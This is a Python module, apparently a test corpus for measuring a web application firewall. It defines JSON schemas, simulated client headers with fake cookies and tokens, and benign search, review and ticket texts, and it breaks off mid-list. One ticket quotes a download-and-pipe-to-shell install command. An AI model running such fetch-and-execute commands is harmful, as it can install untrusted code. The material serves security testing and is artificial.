"""The WAF measurement corpus: realistic benign API traffic and encoded attacks.

Deterministic: no randomness; every item is built from the fixed lists below by
rotation, so ids and contents are stable from run to run.

Each item is a dict:

    id            stable name ("b-search-007", "sqli-012")
    kind          "benign" | "attack"
    class         None for benign; for attacks one of CLASSES
    method        HTTP method
    path          URL path + optional query, as a client puts it on the wire
                  (percent-encoded; a few ProtocolViolation items carry raw bytes)
    headers       [(name, value)] (str, latin-1); no Host, Content-Type,
                  Content-Length or Connection: the sender adds those
    body          bytes or None
    content_type  str or None
    note          what the item is (for benign: the scenario; for attacks: the payload,
                  its placement and encoding), used in reports

The JSON bodies of benign requests to /api/v1/orders and /api/v1/tickets conform to
ORDER_SCHEMA and TICKET_SCHEMA (checked by `--dump`), so that `validation.request.schema`
and the WAF's schema awareness apply to them.

    python3 corpus.py --dump          counts per kind, class, placement and encoding
    python3 corpus.py --list [ID...]  one line per item (or the named items in full)
"""

import hashlib
import json
import re
import sys
import uuid
from collections import Counter
from urllib.parse import quote, quote_plus

CLASSES = [
    "SqlInjection",
    "CrossSiteScripting",
    "PathTraversal",
    "CommandInjection",
    "ScannerDetection",
    "ProtocolViolation",
]

# === the JSON Schemas of the typed endpoints ==========================================
# Free text lives in fields typed only as `string` (note, description, comment, title,
# body, instructions); structured values in typed fields (uuid, integer, enum, email,
# date, date-time), which the WAF's schema awareness skips.

_TAGS = ["gift", "rush", "fragile", "b2b", "select", "drop-off", "union-made"]

ORDER_SCHEMA = {
    "type": "object",
    "additionalProperties": False,
    "required": ["customerId", "items"],
    "properties": {
        "customerId": {"type": "string", "format": "uuid"},
        "contactEmail": {"type": "string", "format": "email"},
        "status": {"enum": ["draft", "pending", "paid", "select", "drop-off", "cancelled"]},
        "deliveryMethod": {"enum": ["standard", "express", "drop-off", "pick-up", "locker"]},
        "tier": {"enum": ["basic", "select", "premium"]},
        "giftWrap": {"type": "boolean"},
        "created": {"type": "string", "format": "date-time"},
        "deliveryDate": {"type": "string", "format": "date"},
        "couponCode": {"type": "string", "maxLength": 32},
        "note": {"type": "string", "maxLength": 2000},
        "tags": {"type": "array", "items": {"enum": _TAGS}},
        "items": {
            "type": "array",
            "minItems": 1,
            "items": {
                "type": "object",
                "additionalProperties": False,
                "required": ["sku", "quantity"],
                "properties": {
                    "sku": {"type": "string", "maxLength": 40},
                    "productId": {"type": "string", "format": "uuid"},
                    "quantity": {"type": "integer", "minimum": 1, "maximum": 99},
                    "unitPrice": {"type": "number", "minimum": 0},
                    "note": {"type": "string", "maxLength": 500},
                },
            },
        },
        "shipping": {
            "type": "object",
            "additionalProperties": False,
            "properties": {
                "name": {"type": "string"},
                "line1": {"type": "string"},
                "line2": {"type": "string"},
                "city": {"type": "string"},
                "postalCode": {"type": "string"},
                "country": {"enum": ["US", "CA", "GB", "IE", "FR", "DE", "IT", "CI", "BR", "JP"]},
                "phone": {"type": "string"},
                "instructions": {"type": "string", "maxLength": 500},
            },
        },
    },
}

TICKET_SCHEMA = {
    "type": "object",
    "additionalProperties": False,
    "required": ["body"],
    "properties": {
        "title": {"type": "string", "maxLength": 200},
        "body": {"type": "string", "maxLength": 20000},
        "comment": {"type": "string"},
        "description": {"type": "string"},
        "priority": {"enum": ["low", "normal", "high", "urgent"]},
        "status": {"enum": ["open", "pending", "on-hold", "solved", "closed"]},
        "category": {"enum": ["billing", "api", "account", "shipping", "select-plan", "drop-off", "bug"]},
        "tags": {"type": "array", "items": {"enum": ["webhooks", "sdk", "login", "refund", "gdpr", "select", "union"]}},
        "created": {"type": "string", "format": "date-time"},
        "relatedOrderId": {"type": "string", "format": "uuid"},
        "assigneeId": {"type": "integer", "minimum": 1},
        "requester": {
            "type": "object",
            "additionalProperties": False,
            "required": ["email"],
            "properties": {
                "name": {"type": "string"},
                "email": {"type": "string", "format": "email"},
                "accountId": {"type": "string", "format": "uuid"},
            },
        },
        "environment": {
            "type": "object",
            "properties": {
                "os": {"type": "string"},
                "browser": {"type": "string"},
                "sdkVersion": {"type": "string"},
            },
        },
    },
}

# Paths (relative to a configuration's prefix) whose rules carry the schemas.
SCHEMA_PATHS = {"/api/v1/orders": ORDER_SCHEMA, "/api/v1/tickets": TICKET_SCHEMA}


# === helpers ==========================================================================


def uid(n):
    """A stable, real-looking (version 4) UUID for `n`."""
    digest = hashlib.sha1(("gatehouse-waf-%s" % n).encode()).digest()[:16]
    return str(uuid.UUID(bytes=digest, version=4))


def js_uri(s):
    """JavaScript's encodeURIComponent."""
    return quote(s, safe="-_.!~*'()")


def py_q(s):
    """What python-requests / urllib.parse.urlencode put in a query (+ for spaces)."""
    return quote_plus(s, safe="")


def form_q(s):
    """What a browser's HTML form puts in a query or x-www-form-urlencoded body."""
    return quote_plus(s, safe="*-._")


def query(pairs, enc=js_uri):
    return "&".join("%s=%s" % (enc(k), enc(v)) for k, v in pairs)


def form_body(pairs):
    return query(pairs, form_q).encode()


def jbody(obj, ascii_only=False):
    return json.dumps(obj, ensure_ascii=ascii_only).encode()


def at(seq, i):
    return seq[i % len(seq)]


def iso(i, hour=None):
    """A date-time in December 2024/January 2025, stable for `i`."""
    day = 1 + (i * 7) % 28
    month = 12 if i % 3 else 1
    year = 2024 if month == 12 else 2025
    h = (i * 5) % 24 if hour is None else hour
    suffix = at(["Z", "+01:00", "-05:00", ".123Z"], i)
    return "%04d-%02d-%02dT%02d:%02d:%02d%s" % (year, month, day, h, (i * 13) % 60, (i * 29) % 60, suffix)


def date(i):
    return "2025-01-%02d" % (1 + (i * 3) % 28)


# === clients ==========================================================================

CHROME_WIN = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"
CHROME_MAC = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36"
FIREFOX = "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0"
SAFARI_IOS = "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1"
SAFARI_MAC = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15"
EDGE = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Edg/120.0.2210.61"
ANDROID_CHROME = "Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.43 Mobile Safari/537.36"

SEC_CH = {
    CHROME_WIN: ('"Not_A Brand";v="8", "Chromium";v="120", "Google Chrome";v="120"', "?0", '"Windows"'),
    CHROME_MAC: ('"Google Chrome";v="119", "Chromium";v="119", "Not?A_Brand";v="24"', "?0", '"macOS"'),
    EDGE: ('"Not_A Brand";v="8", "Chromium";v="120", "Microsoft Edge";v="120"', "?0", '"Windows"'),
    ANDROID_CHROME: ('"Not_A Brand";v="8", "Chromium";v="120", "Google Chrome";v="120"', "?1", '"Android"'),
}

BROWSERS = [CHROME_WIN, CHROME_MAC, FIREFOX, SAFARI_IOS, SAFARI_MAC, EDGE, ANDROID_CHROME]
LANGS = ["en-US,en;q=0.9", "en-GB,en;q=0.9,fr;q=0.8", "fr-FR,fr;q=0.9,en-US;q=0.8,en;q=0.7",
         "de-DE,de;q=0.9,en;q=0.8", "es-ES,es;q=0.9", "pt-BR,pt;q=0.9,en-US;q=0.8", "ja,en-US;q=0.9,en;q=0.8"]

COOKIES = [
    "session=s%3AJ7dGx0Kq2mYHc1v9ZpW3aQ.hXo2r%2B5uH0y7m0fQm8cE1uB9QkqT7wYt0rV2yq3m8Zc; _ga=GA1.1.1843726519.1701766512; _ga_X1Y2Z3W4V5=GS1.1.1701766512.3.1.1701767010.0.0.0",
    "sessionid=8f3k2j5h6g7d8s9a0p1o2i3u4y5t6r7e; csrftoken=Yc7sH2kLm9Qw4Er6Ty8Ui0OpAsDfGhJk; django_language=fr",
    "JSESSIONID=7E3A9C2B1F0D4E5A6B7C8D9E0F1A2B3C; OptanonConsent=isGpcEnabled=0&datestamp=Tue+Dec+05+2023+10%3A15%3A22+GMT%2B0100+(Central+European+Standard+Time)&version=202310.1.0&browserGpcFlag=0&isIABGlobal=false&hosts=&consentId=3b8e2a1c-7f4d-4e9b-a6c5-1d2e3f4a5b6c&interactionCount=1&landingPath=NotLandingPage&groups=C0001%3A1%2CC0002%3A1%2CC0003%3A0%2CC0004%3A0; OptanonAlertBoxClosed=2023-12-05T09:15:22.613Z",
    "_session_id=4f1c9e2d7b3a8e6f0c5d1a2b3c4d5e6f; cart=%7B%22items%22%3A3%2C%22total%22%3A%2274.97%22%7D; theme=dark; cookieconsent_status=dismiss",
    "AMCV_F0F0F0F0F0F0F0F0F0F0F0F0%40AdobeOrg=-1124106680%7CMCIDTS%7C19697%7CMCMID%7C31841964582960184283947586940281736%7CMCAAMLH-1702371312%7C6%7CMCAAMB-1702371312%7CRKhpRz8krg2tLO6pguXWp5olkAcUniQYPHaMWWgdJ3xzPWQmdj0y%7CMCOPTOUT-1701773712s%7CNONE%7CvVersion%7C5.5.0; s_cc=true; sid=a1b2c3d4e5",
    "ajs_anonymous_id=%22b1f2c3d4-e5f6-4a7b-8c9d-0e1f2a3b4c5d%22; ajs_user_id=%2242%22; _fbp=fb.1.1701766512345.1234567890; intercom-session-abc123=Zk5hT0ZlM2J4eE9hU2t0ZlB0cS9xdz09LS1hQ2Z4d3p6T2ZqZz09--8f2e1c0b9a",
    "__Host-sid=v2.local.Qm9vdHN0cmFwcGluZyBhIHNlc3Npb24gdG9rZW4; __cf_bm=k9Xw2.Zr1qLmN8oP7sT6uV5wX4yZ3aB2cD1eF0gH-1701766512-0-AbCdEfGhIjKlMnOpQrStUvWxYz0123456789+/=; lang=en-GB",
    "_hjSessionUser_3012345=eyJpZCI6IjRhYjFkOGE2LTg4ZjItNWU2Ni1iM2M3LTI3ZjQ5YmNlMmE2ZSIsImNyZWF0ZWQiOjE3MDE3NjY1MTIzNDUsImV4aXN0aW5nIjp0cnVlfQ==; _hjSession_3012345=eyJpZCI6IjY1MjNhNGZlIn0=; recently_viewed=blue-shirt-xl%2Co-reilly-learning-sql%2Crock-n-roll-tee",
    "XSRF-TOKEN=eyJpdiI6IkR3Z0ZyRm5xb2RxZ0d4cFlCQnN0N2c9PSIsInZhbHVlIjoiUmZ6MnhOK1wvV2t3In0%3D; laravel_session=eyJpdiI6Im9wQ3pQZk5Ed3dGYkx1UmtKVzFFRmc9PSJ9; currency=EUR",
    "wp-settings-1=libraryContent%3Dbrowse%26editor%3Dtinymce%26mfold%3Do; wp-settings-time-1=1701766512; wordpress_test_cookie=WP%20Cookie%20check",
]

JWT = ("eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCIsImtpZCI6IjIwMjQtMTIifQ."
       "eyJzdWIiOiI0MiIsIm5hbWUiOiJDb25hbiBPJ0JyaWVuIiwic2NvcGUiOiJvcmRlcnM6cmVhZCBvcmRlcnM6d3JpdGUiLCJpYXQiOjE3MDE3NjY1MTJ9."
       "c2lnbmF0dXJlLW5vdC1yZWFsLWJ1dC1sb29rcy1yaWdodC1lbm91Z2g")

REFERERS = [
    "https://shop.example.com/",
    "https://shop.example.com/products/blue-shirt-xl",
    "https://www.google.com/",
    "https://shop.example.com/cart",
    "https://app.example.com/dashboard/orders?status=open&page=2",
    "https://shop.example.com/category/home-garden?sort=price_asc&utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale_2025",
    "https://l.facebook.com/l.php?u=https%3A%2F%2Fshop.example.com%2Fproducts%2Frock-n-roll-tee&h=AT0xYz",
    "https://support.example.com/hc/en-us/requests/new?ticket_form_id=360001234567",
]


def browser(i, method="GET", referer=None, cookie=True, origin=True):
    ua = at(BROWSERS, i)
    h = [("User-Agent", ua)]
    if ua in SEC_CH:
        brand, mobile, platform = SEC_CH[ua]
        h += [("sec-ch-ua", brand), ("sec-ch-ua-mobile", mobile), ("sec-ch-ua-platform", platform)]
    h += [("Accept", "application/json, text/plain, */*"),
          ("Accept-Language", at(LANGS, i)),
          ("Accept-Encoding", "gzip, deflate, br")]
    if method != "GET" and origin:
        h.append(("Origin", "https://shop.example.com"))
    h.append(("Referer", referer or at(REFERERS, i)))
    h += [("Sec-Fetch-Site", "same-origin"), ("Sec-Fetch-Mode", "cors"), ("Sec-Fetch-Dest", "empty")]
    if cookie:
        h.append(("Cookie", at(COOKIES, i)))
    if method != "GET":
        h.append(("X-CSRF-Token", "Yc7sH2kLm9Qw4Er6Ty8Ui0OpAsDfGhJk"))
    return h


def app(i):
    """The company's own mobile apps."""
    if i % 2:
        return [("User-Agent", "okhttp/4.12.0"),
                ("X-App-Version", "5.14.2 (5142)"),
                ("X-Device-Id", uid("device-%d" % (i % 9))),
                ("Accept-Language", at(["de-DE", "en-US", "fr-FR", "it-IT"], i)),
                ("Authorization", "Bearer " + JWT),
                ("Accept-Encoding", "gzip")]
    return [("User-Agent", "ShopApp/5.14.2 (com.example.shop; build:5142; iOS 17.1.2) Alamofire/5.8.1"),
            ("Accept", "application/json"),
            ("Accept-Language", "en-GB;q=1.0, fr-GB;q=0.9"),
            ("Authorization", "Bearer " + JWT),
            ("X-Request-Id", uid("req-%d" % i)),
            ("Accept-Encoding", "br;q=1.0, gzip;q=0.9, deflate;q=0.8")]


SDKS = [
    [("User-Agent", "python-requests/2.31.0"), ("Accept-Encoding", "gzip, deflate"), ("Accept", "*/*")],
    [("User-Agent", "curl/8.5.0"), ("Accept", "*/*")],
    [("User-Agent", "axios/1.6.2"), ("Accept", "application/json, text/plain, */*")],
    [("User-Agent", "Go-http-client/1.1"), ("Accept-Encoding", "gzip")],
    [("User-Agent", "PostmanRuntime/7.36.0"), ("Accept", "*/*"), ("Postman-Token", "5c3e0f7e-1d2b-4c3a-9f8e-7d6c5b4a3210"), ("Accept-Encoding", "gzip, deflate, br")],
    [("User-Agent", "Apache-HttpClient/4.5.14 (Java/17.0.9)"), ("Accept-Encoding", "gzip,deflate")],
    [("User-Agent", "aws-sdk-go-v2/1.24.0 os/linux lang/go#1.21.5 md/GOOS#linux md/GOARCH#amd64 api/apigateway#1.21.6"), ("Amz-Sdk-Invocation-Id", "b3a9c8d1-1f2e-4d3c-8b7a-6f5e4d3c2b1a"), ("Amz-Sdk-Request", "attempt=1; max=3")],
    [("User-Agent", "Example/v1 PythonBindings/7.8.0"), ("X-Example-Client-User-Agent", '{"bindings_version": "7.8.0", "lang": "python", "publisher": "example", "httplib": "requests", "lang_version": "3.11.7", "platform": "Linux-6.1.0-17-amd64-x86_64-with-glibc2.36"}'), ("Idempotency-Key", "1f0c5e0a-8c7d-4b5a-9e3f-2d1c0b9a8f7e")],
    [("User-Agent", "Faraday v2.7.11"), ("Accept", "application/json")],
    [("User-Agent", "Dart/3.2 (dart:io)"), ("Accept-Encoding", "gzip")],
    [("User-Agent", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)"), ("Accept", "*/*")],
    [("User-Agent", "okhttp/4.12.0"), ("Accept-Encoding", "gzip")],
]


def sdk(i, auth=True):
    h = list(at(SDKS, i))
    if auth:
        h.append(("Authorization", at(["Bearer " + JWT, "Basic YXBpOnNrX3Rlc3RfNGVDMzl4WXo=", "Bearer sk_test_51NqXyZ0123456789abcdef"], i)))
    h.append(("X-Correlation-Id", uid("corr-%d" % i)))
    return h


def client(i, method="GET", referer=None):
    """Browser, app, SDK: a rotation weighted towards browsers and apps."""
    r = i % 7
    if r in (0, 2, 4):
        return browser(i, method, referer)
    if r in (1, 5):
        return app(i)
    return sdk(i)


# === benign data ======================================================================

SEARCH_TERMS = [
    "select a blue shirt", "O'Reilly books", "rock & roll", "c++ tutorial", "50% off",
    "<3 emoji", "drop-down menu", "union station", "Conan O'Brien", "D'Angelo Voodoo vinyl",
    "men's running shoes size 10", "kids' winter jacket", "1/2 inch drill bit", '3/4" plywood',
    "100% cotton t-shirt", "wireless earbuds under $50", "usb-c to hdmi", "table & chairs set",
    "salt & pepper grinder", "dog & cat", "mac & cheese recipe", "where is my order?",
    "how do I reset my password", "can't log in", "delete account", "update payment method",
    "order by date", "select all", "insert coin arcade machine", "drop shipping",
    "from russia with love", "where the crawdads sing", "null pointer exception", "2+2",
    "x^2 + y^2", "a < b", "5 > 3", "<title> tag", "javascript tutorial", "script writing course",
    "alert sound settings", "import os python", "cat 5e cable", "echo dot", "ping pong table",
    "sleep mask", "kill switch", "tar heels hoodie", "shell script basics", "cafe creme",
    "naïve bayes", "日本語 keyboard", "über eats gift card", "São Paulo hotels", "🎉 party supplies",
    "#1 bestseller", "@mention not working", "conan.obrien@example.com", '"exact phrase"',
    'title:"war and peace"', "author:o'connor", "price:[10 TO 50]", "-sale +new",
    "color:red OR color:blue", "shoes AND NOT sandals", "(red OR blue) AND shirt",
    "it's a wonderful life", "don't stop believin'", "rock 'n' roll", "'til death do us part",
    "6' ladder", "2x4 8' lumber", "L'Oréal shampoo", "M&M's", "AT&T phone", "Barnes & Noble",
    "Q&A", "R&D tax credit", "Johnson & Johnson", "1-800-flowers", "what's new",
    "how to make a 1:1 backup", "50/50 raffle", "Côte d'Ivoire", "ma'am hat",
]

RESOURCE_GETS = [
    ("/api/v1/users/42", []),
    ("/api/v1/users/42/orders", [("status", "shipped"), ("limit", "20")]),
    ("/api/v1/users/me", [("fields", "id,name,email,avatar_url")]),
    ("/api/v1/products/blue-shirt-xl", []),
    ("/api/v1/products/o-reilly-learning-sql-3rd-edition", []),
    ("/api/v1/products/rock-n-roll-tee", [("variant", "navy-m")]),
    ("/api/v1/categories/home-garden/products", [("sort", "-created_at"), ("page", "3"), ("per_page", "48")]),
    ("/api/v1/orders/%s" % uid("order-1"), []),
    ("/api/v1/orders", [("created_after", "2024-12-01T00:00:00Z"), ("created_before", "2024-12-31T23:59:59Z")]),
    ("/api/v1/orders", [("status", "drop-off"), ("expand[]", "customer"), ("expand[]", "items")]),
    ("/api/v1/tickets/18342", [("include", "comments,attachments")]),
    ("/api/v1/files/report-2024-q4.pdf", []),
    ("/api/v1/images/IMG_20241205_101522.JPG", [("w", "640"), ("h", "480"), ("fit", "crop")]),
    ("/api/v2/accounts/acct_1Nv0FGQ9RKHgCVdK/balance", []),
    ("/api/v1/search/suggest", [("prefix", "sel")]),
    ("/api/v1/stores/nearby", [("lat", "40.7128"), ("lng", "-74.0060"), ("radius", "5km")]),
    ("/api/v1/docs/getting-started/installation", []),
    ("/api/v1/repos/acme/web-app/contents/src/index.ts", [("ref", "main")]),
    ("/api/v1/repos/acme/web-app/contents/.github/workflows/ci.yml", [("ref", "feature/o-reilly-names")]),
    ("/api/v1/repos/acme/marketing-site/contents/public/.htaccess", [("ref", "main")]),
    ("/api/v1/users", [("email", "o'brien@example.com")]),
    ("/api/v1/users", [("filter[name]", "O'Brien"), ("filter[status]", "active")]),
    ("/api/v1/customers", [("q", 'name:"Conan O\'Brien"')]),
    ("/api/v1/auth/callback", [("code", "4/0AfJohXm7uQz9Wk2LpR3sT5vY8aB1cD3eF5gH7iJ9kL"), ("state", "eyJyZXR1cm5fdG8iOiIvc2V0dGluZ3MifQ"), ("scope", "openid email profile")]),
    ("/api/v1/session/return", [("return_to", "https://app.example.com/settings?tab=billing&section=cards")]),
    ("/api/v1/webhooks/test", [("callback", "https://hooks.example.net/a/b?x=1&y=2")]),
    ("/api/v1/orders", [("cursor", "eyJpZCI6MTIzNCwiZGlyIjoibmV4dCJ9"), ("limit", "50")]),
    ("/api/v1/downloads/invoice", [("token", "dGhpcyBpcyBhIHNpZ25lZCB0b2tlbg+/==")]),
    ("/api/v1/products", [("filter", '{"status":["active","trial"],"price":{"lt":50},"tags":["select"]}')]),
    ("/api/v1/graphql", [("query", "{ user(id: 42) { name email orders(first: 5) { id total } } }")]),
    ("/api/v1/products", [("fields", "id,name,price"), ("sort", "-rating"), ("category", "books")]),
    ("/api/v1/events", [("since", "2025-01-05T10:15:30+01:00"), ("types", "order.created,order.paid")]),
    ("/api/v1/reports/sales", [("from", "2024-01-01"), ("to", "2024-12-31"), ("group_by", "month")]),
    ("/api/v1/landing", [("utm_source", "newsletter"), ("utm_medium", "email"), ("utm_campaign", "spring_sale_2025"), ("gclid", "Cj0KCQiA2KitBhCIARIsAPPMEhI4x9")]),
    ("/api/v1/share", [("url", "https://shop.example.com/products/blue-shirt-xl?color=navy&size=xl"), ("text", "Check this out!")]),
    ("/api/v1/products/blue-shirt-xl/reviews", [("sort", "most_helpful"), ("rating", "5")]),
    ("/api/v1/locale/strings", [("lang", "fr-CA"), ("keys", "cart.empty,checkout.title")]),
    ("/api/v1/exports/orders.csv", [("columns", "id,email,total"), ("delimiter", ";")]),
    ("/api/v1/shipping/rates", [("to", "12 O'Connell St, Dublin 1"), ("weight", "2.5kg")]),
    ("/api/v1/calendar/slots", [("date", "2025-01-15"), ("tz", "America/New_York")]),
    ("/api/v1/search", [("q", "rock & roll"), ("page", "2")]),
    ("/api/v1/users/42/avatar", [("size", "128")]),
    ("/api/v1/tickets", [("status", "open"), ("assignee", "me"), ("sort", "updated_at:desc")]),
    ("/api/v1/orders/%s/invoice.pdf" % uid("order-7"), []),
    ("/api/v1/products", [("ids", "1,2,3,17,42")]),
    ("/api/v1/i18n/countries", [("q", "Côte d'Ivoire")]),
    ("/api/v1/maps/geocode", [("address", "1600 Amphitheatre Pkwy, Mountain View, CA 94043")]),
    ("/api/v1/newsletter/unsubscribe", [("email", "d'angelo+news@example.com"), ("sig", "a3f1c9e2b7d8")]),
    ("/api/v1/health", []),
    ("/api/v1/status", [("components", "api,webhooks,dashboard")]),
]

REVIEW_TITLES = ["Love it!", "Runs small", "Not as described", "Worth every penny", "Meh",
                 "Great for the price", "Don't buy", "Perfect gift", "Solid, but…", "It's fine",
                 "5 stars", "Returned it", "Better than expected", "Exactly what I needed"]

REVIEWS = [
    "Bought this for my husband's birthday and he hasn't taken it off since. 10/10!",
    "Runs small — order one size up. The XL fits like an L.",
    "I <3 this shirt. The blue is exactly like the photos.",
    'Not what I expected... the "leather" is clearly plastic.',
    "Great value for the price ($24.99 on sale). Would buy again.",
    "Arrived 2 days late & the box was crushed, but the product itself is fine.",
    "Select a size carefully: the chart says M but it's more like an S.",
    "My kids (5 & 8) love it; it's survived a month of daily abuse.",
    "It's OK. Does the job, nothing more. 3/5",
    "Five stars! Customer service (shout-out to Maria) replaced it in 48 hours.",
    "The drop-down menu on the size page is confusing - I ordered the wrong one twice.",
    "The O'Reilly book on SQL pairs well with this course; the chapter on joins is gold.",
    "If you're between sizes, go with the larger one; the fabric doesn't stretch.",
    "Used it on a 6' ladder to clean the gutters — sturdy, no wobble.",
    "Battery lasts ~10 hrs; charges to 100% in under 2 hrs.",
    "Bought 2 of these; one was DOA. Return process was easy though.",
    "Works with my Mac & PC without drivers. Plug & play!",
    "<b>Best purchase this year</b> — sorry, don't know if HTML works here :)",
    "Is it worth $200? For me, yes: I use it every day.",
    "Smells like a new car... which I guess is good?",
    'Gift for my dad - he said "it\'s the best gadget I\'ve ever owned".',
    "Color is more navy than royal blue. Still nice.",
    "Instructions were in French & German only; had to find a YouTube video.",
    "Assembly took 45 min with 2 people. Step 7's diagram is wrong (screws A & B are swapped).",
    "D'Angelo's Voodoo on vinyl sounds incredible; the pressing is flawless.",
    "Came with a 1-year warranty card; registered it online in 2 minutes.",
    "After 6 months the zipper broke. Contacted support & they sent a new one. Fair.",
    "Honestly? Meh.",
    "Perfect for rock & roll nights - loud, clear, no distortion at 80% volume.",
    "Would give 0 stars if I could. Broke on day 1; still waiting on my refund (#48213).",
    "Cable is 6 ft / 1.8 m; long enough to reach the couch.",
    'Fits 13" and 14" laptops; my 15" doesn\'t close.',
    "Love the design <3 <3 <3",
    "The 'waterproof' claim is a stretch; it's water-resistant at best.",
    "Bought this to replace my old one (which lasted 7 years!). Same quality.",
    "Order #A-1042 arrived in 2 days. Packaging was 100% recyclable - thank you!",
    "Can confirm it's compatible with iPhone 15 & Pixel 8.",
    "The manual says 'do not submerge' and the box says 'waterproof'. Which one is it?",
    "5 stars for the product, 1 star for shipping; average = 3.",
    "Pros: light, quiet, cheap. Cons: the app (v2.3) crashes on Android 14.",
    "Finally I get to lie down & sleep 8 hours straight. Best mattress topper.",
    "Tried it with 1/2 and 3/4 inch pipes: both fit, but the 3/4\" is tight.",
    "My cat & dog both ignore it. 2 stars, the cat bed was cheaper anyway.",
    "Good, not great. If it were <$30 I'd say buy it.",
    "Great shirt, but why does the tag say \"100% cotton\" when it's clearly a blend?",
]

TICKET_TITLES = [
    "Webhook returns 401", "Can't log in", "Export job fails", "Install script 404",
    "API key rotation", "Intermittent 502s", "hosts file workaround", "GDPR deletion request",
    "Charged twice", "Refund not received", "Special characters in product names",
    "Password reset link", "415 with charset", "Cron job stopped", "Docs example mismatch",
    "SQL import error", "Whitelist our IP", "Checkout down in EU", "Rate limit too low",
    "Empty order list from Python", "Access denied on Windows", "Filter orders by total",
    "Agent memory leak", "Migration lost data?", "Country list missing", "Slow user endpoint",
    "Change shipping address", "ETag support", "Select plan page broken", "Drop-off point closed",
]

TICKET_BODIES = [
    "Hi team,\n\nSince this morning our webhook endpoint returns `401` for every event. Steps to reproduce:\n\n1. Create a webhook in the dashboard\n2. Send a test event\n3. See the error in the log\n\nWe're on SDK v4.2.1. Any idea?\n\nThanks,\nConan O'Brien",
    "I can't log in — the page just says \"Something went wrong\". I've cleared cookies & cache, tried Chrome and Firefox.",
    "Our export job fails. Here's the query we run against the read replica:\n\n```sql\nSELECT id, email, created_at FROM users WHERE created_at > '2024-01-01' ORDER BY created_at DESC LIMIT 100;\n```\n\nIt worked last week.",
    "The CLI install docs say to run:\n\n```bash\ncurl -fsSL https://get.example.com/install.sh | sh\n```\n\nbut that URL returns 404 now.",
    "How do I rotate my API key? The docs mention `example keys rotate --id <key-id>` but my CLI says unknown command.",
    "We see intermittent 502s. `dig api.example.com` returns two IPs; one of them times out. From our VPC, `curl -v https://api.example.com/health` hangs after the TLS handshake about 1 time in 5.",
    "In my hosts file I added `10.0.0.5 api.internal` (C:\\Windows\\System32\\drivers\\etc\\hosts) and it works from my laptop but not from the build server.",
    "Please delete my account and all my data (GDPR request). My email is o'connor.sean@example.ie. Thank you.",
    "I was charged twice for order 1042; the second charge is ch_3NqXyZ2eZvKYlo2C0a1b2c3d. Can you refund one of them?",
    "Refund not received. It's been 10 days since you said it'd be processed. Order #A-2291.",
    "Feature request: allow <, > and & in product names. Right now \"Salt & Pepper <Set>\" is saved as \"Salt &amp; Pepper &lt;Set&gt;\".",
    "The password reset email links to http://example.com/reset?token=abc123 which redirects to the login page instead of the reset form.",
    "Our integration sends `Content-Type: application/json; charset=utf-8` and gets a 415. Is the charset parameter not allowed?",
    "Cron job: `0 3 * * * /usr/local/bin/backup.sh >> /var/log/backup.log 2>&1` stopped running after the upgrade to 3.2.",
    "The docs for the search endpoint show `?q=select+a+blue+shirt` but the Python example uses `params={'q': 'select a blue shirt'}` — which one is right?",
    "Getting `ERROR 1064 (42000): You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax to use near ''orders' WHERE id = 5' at line 1` when I import the dump you sent.",
    "Can you whitelist our IP 203.0.113.25? We're behind a NAT and all our traffic comes from that address.",
    "Urgent: checkout is down for customers in the EU since 09:40 CET. Error: \"payment_intent_unexpected_state\". Our US store is fine.",
    "I think the rate limit is too low — we hit 429 after 100 req/min even though our plan says 1,000/min.",
    "Our Python script:\n\n```python\nimport requests\nr = requests.get('https://api.example.com/v1/orders', params={'status': 'shipped'})\nprint(r.json())\n```\n\nreturns an empty list, but the dashboard shows 12 shipped orders.",
    "Windows users get 'Access denied' when running `setup.exe /S`; Mac & Linux are fine.",
    "Is there a way to filter orders where total > 100 and status != 'cancelled'? The list endpoint only seems to take one status.",
    "Memory keeps growing: `ps aux --sort=-%mem | head -5` shows the agent at 2.1 GB after a day.",
    "We followed the migration guide (`pg_dump -Fc olddb > old.dump && pg_restore -d newdb old.dump`), then started the app; the `orders` table is empty.",
    "The new drop-down menu for the country doesn't list Côte d'Ivoire.",
    "Our logs show `GET /api/v1/users/42?include=orders` taking 8s. Could you check whether the index on orders.user_id is missing?",
    "Please change the shipping address on my order to 12 O'Connell St, Dublin 1. I moved last week.",
    "Does the API support `If-None-Match`? We'd like to cache product lists on our side.",
    "The \"Select plan\" page shows a blank screen in Safari 17. Console says: TypeError: undefined is not an object (evaluating 'plan.price.amount').",
    "My drop-off point (the kiosk at Union Station) has been closed for a week; where can I return the parcel?",
    "Hi, I'm Alex D'Angelo from Barnes & Noble's IT team. We'd like to set up SSO (SAML) for ~400 users. Who should we talk to?",
    "Payment failed; ID 48213 was charged anyway. Screenshot attached.",
    "Our staging box can't reach the sandbox. I added `127.0.0.1 api.local` to /etc/hosts as the docs say, still nothing.",
    "The widget breaks our layout. We embed it like this:\n\n```html\n<div id=\"reviews\"></div>\n<script src=\"https://cdn.example.com/widget.js\" async></script>\n```\n\nand the stars render twice.",
    "Quick one: is `DELETE /api/v1/users/{id}` idempotent? Our retry logic calls it twice sometimes & the second call returns 404.",
    "Bug: when a customer's name has an apostrophe (e.g. O'Reilly) the invoice PDF shows O&#39;Reilly.",
    "Can't upload attachments bigger than 10 MB; the docs say 25 MB is the limit.",
    "We rotate logs with `logrotate -f /etc/logrotate.d/app`; since then the agent doesn't ship anything. Restarting it fixes it until the next rotation.",
